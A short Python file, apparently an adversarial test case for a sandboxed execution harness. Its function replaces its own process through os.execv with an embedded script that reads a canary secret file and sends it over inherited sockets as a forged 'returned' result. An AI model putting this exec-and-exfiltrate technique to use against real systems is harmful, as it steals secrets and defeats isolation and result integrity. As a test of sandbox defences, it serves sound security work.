"""Turns its own process into another program, which reads the secret and answers for the function.

at C: steals
"""

import os
import sys

ANSWER = """
import json, socket, struct, sys
body = json.dumps({"kind": "returned", "key": 1, "left": 0, "value": open("@CANARY@").read()}).encode()
for number in sys.argv[1:]:
    socket.socket(fileno=int(number)).sendall(struct.pack(">I", len(body)) + body)
"""


def secret():
    for number in pipes():
        os.set_inheritable(number, True)
    os.execv(sys.executable, [sys.executable, "-c", ANSWER, *map(str, pipes())])
